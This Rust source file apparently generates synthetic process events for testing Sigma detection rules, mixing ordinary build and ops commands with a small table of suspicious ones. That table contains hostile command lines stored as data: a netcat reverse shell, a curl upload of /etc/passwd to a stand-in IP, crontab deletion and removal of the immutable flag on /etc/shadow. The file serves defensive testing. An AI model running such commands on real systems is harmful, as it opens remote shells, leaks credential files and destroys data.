//! Process events made up here, the same on every machine: one suspicious in a hundred.

use serde_json::{Value, json};

/// One process event, by Sigma names.
#[derive(Debug, Clone)]
pub struct Event {
    pub image: String,
    pub command: String,
    pub parent: String,
    pub parent_command: String,
    pub user: String,
    pub directory: String,
    pub uid: u32,
}

impl Event {
    /// The value of a Sigma field, `None` for one that these events do not have.
    pub fn field(&self, name: &str) -> Option<String> {
        Some(match name {
            "Image" => self.image.clone(),
            "CommandLine" => self.command.clone(),
            "ParentImage" => self.parent.clone(),
            "ParentCommandLine" => self.parent_command.clone(),
            "User" => self.user.clone(),
            "CurrentDirectory" => self.directory.clone(),
            "LogonId" => self.uid.to_string(),
            _ => return None,
        })
    }

    /// In the model's shape.
    pub fn to_json(&self, number: usize) -> Value {
        let time =
            format!("2026-01-01T{:02}:{:02}:{:02}.{:09}Z", number / 3600 % 24, number / 60 % 60, number % 60, number);
        let argv: Vec<&str> = self.command.split(' ').collect();
        json!({
            "Timestamp": &time, "EventType": "sched_process_exec",
            "System": {"Timestamp": &time, "EventID": 715, "EventName": "sched_process_exec", "ThreadStartTime": &time,
                "ProcessorID": 0, "ProcessID": number, "ThreadID": number, "ParentProcessID": 1, "HostProcessID": number,
                "HostThreadID": number, "HostParentProcessID": 1, "UserID": self.uid, "MountNS": 4_026_531_841_u64,
                "ProcessName": "p", "HostName": "host", "CgroupID": 1, "MainHostname": "host"},
            "EventData": {"cmdpath": &self.image, "pathname": &self.image, "dev": 265_289_728, "inode": number, "argv": argv,
                "ProcInfo": {"Name": "p", "CommandLine": &self.command, "CreateTime": &time, "Exe": &self.image,
                    "Cwd": &self.directory, "Username": &self.user}},
            "context": {"ancestors": [{"pid": 1, "exe": &self.parent, "cmdline": &self.parent_command}]},
        })
    }
}

/// Executable, command line, parent, parent's command line; `{n}` varies.
const ORDINARY: &[[&str; 4]] = &[
    ["/usr/bin/bash", "/bin/bash -l", "/usr/sbin/sshd", "sshd: deploy [priv]"],
    ["/usr/bin/git", "git status --porcelain", "/usr/bin/zsh", "-zsh"],
    ["/usr/bin/git", "git log --oneline -n {n}", "/usr/bin/bash", "-bash"],
    ["/usr/bin/make", "make -j{n} all", "/usr/bin/bash", "bash build.sh"],
    [
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -I include src/file{n}.c -mtune=generic -O2 -o /tmp/cc{n}.s",
        "/usr/bin/x86_64-linux-gnu-gcc-12",
        "gcc -O2 -c src/file{n}.c",
    ],
    [
        "/usr/bin/x86_64-linux-gnu-as",
        "as -I include --64 -o build/file{n}.o /tmp/cc{n}.s",
        "/usr/bin/x86_64-linux-gnu-gcc-12",
        "gcc -O2 -c src/file{n}.c",
    ],
    [
        "/home/ci/.cargo/bin/rustc",
        "rustc --crate-name crate_{n} --edition=2021 src/lib.rs --crate-type lib --emit=dep-info,metadata,link -C opt-level=3 --out-dir target/release/deps",
        "/home/ci/.cargo/bin/cargo",
        "cargo build --release",
    ],
    ["/usr/bin/node", "node ./node_modules/.bin/tsc -p tsconfig.json --incremental", "/usr/bin/npm", "npm run build"],
    [
        "/usr/bin/python3.11",
        "/usr/bin/python3 /opt/app/jobs/report_{n}.py --date 2026-01-15",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
    ],
    [
        "/usr/sbin/logrotate",
        "/usr/sbin/logrotate /etc/logrotate.d/app{n}",
        "/usr/lib/systemd/systemd",
        "/lib/systemd/systemd --system",
    ],
    ["/usr/bin/sleep", "sleep {n}", "/usr/bin/bash", "bash ./wait.sh"],
    ["/usr/bin/sed", "sed -e s/foo/bar{n}/g", "/usr/bin/bash", "bash ./configure"],
    ["/usr/bin/sort", "sort -u -k {n}", "/usr/bin/bash", "bash ./metrics.sh"],
    [
        "/usr/sbin/runc",
        "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/{n}/log.json --log-format json state {n}",
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby",
    ],
    [
        "/usr/bin/java",
        "java -Xmx{n}m -Dspring.profiles.active=prod -jar /srv/app/service-{n}.jar --server.port=8080",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ],
    [
        "/usr/lib/postgresql/15/bin/postgres",
        "postgres: app appdb 10.0.0.{n}({n}) SELECT",
        "/usr/lib/postgresql/15/bin/postgres",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
    ],
    ["/usr/bin/mkdir", "mkdir -p build/obj/dir{n}", "/usr/bin/make", "make all"],
    ["/usr/bin/tar", "tar -xf pkg-{n}.tar.xz -C build", "/usr/bin/bash", "bash build.sh"],
    [
        "/usr/bin/rsync",
        "rsync -az --delete build/ deploy@web{n}.internal.example:/srv/www/",
        "/usr/bin/bash",
        "bash deploy.sh",
    ],
    [
        "/usr/bin/kubectl",
        "kubectl get pods -n prod -o json --field-selector status.phase=Running",
        "/usr/bin/python3.11",
        "python3 /opt/ops/health.py",
    ],
    ["/usr/bin/dash", "sh -c test -f file{n}", "/usr/bin/make", "make check"],
    ["/usr/bin/vim.basic", "vim src/mod_{n}.rs", "/usr/bin/zsh", "-zsh"],
    [
        "/usr/bin/ffmpeg",
        "ffmpeg -i in{n}.mp4 -c:v libx264 -crf 23 out{n}.mp4",
        "/usr/bin/python3.11",
        "python3 transcode.py",
    ],
];

const SUSPICIOUS: &[[&str; 4]] = &[
    ["/usr/bin/nc", "nc -e /bin/sh 203.0.113.{n} 4444", "/usr/bin/bash", "bash"],
    ["/usr/bin/crontab", "crontab -r", "/usr/bin/bash", "bash"],
    ["/usr/bin/base64", "base64 -d /tmp/x{n}", "/usr/bin/bash", "bash"],
    ["/usr/bin/curl", "curl -F file=@/etc/passwd https://203.0.113.{n}/", "/usr/bin/bash", "bash"],
    ["/usr/bin/chattr", "chattr -i /etc/shadow", "/usr/bin/bash", "bash"],
];

/// Event number `i`.
pub fn generate(i: usize) -> Event {
    let mut state = (i as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    state ^= state >> 29;
    let mut next = |n: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % n as u64) as usize
    };
    let table = if i % 100 == 50 { SUSPICIOUS } else { ORDINARY };
    let [image, command, parent, parent_command] = table[next(table.len())];
    let n = (2 + next(250)).to_string();
    let user = ["alice", "bob", "www-data", "postgres", "deploy", "svc_build", "root"][next(7)];
    let fill = |t: &str| t.replace("{n}", &n);
    Event {
        image: fill(image),
        command: fill(command),
        parent: fill(parent),
        parent_command: fill(parent_command),
        user: user.to_owned(),
        directory: format!("/home/{user}/work/p{n}"),
        uid: 1000 + next(250) as u32,
    }
}
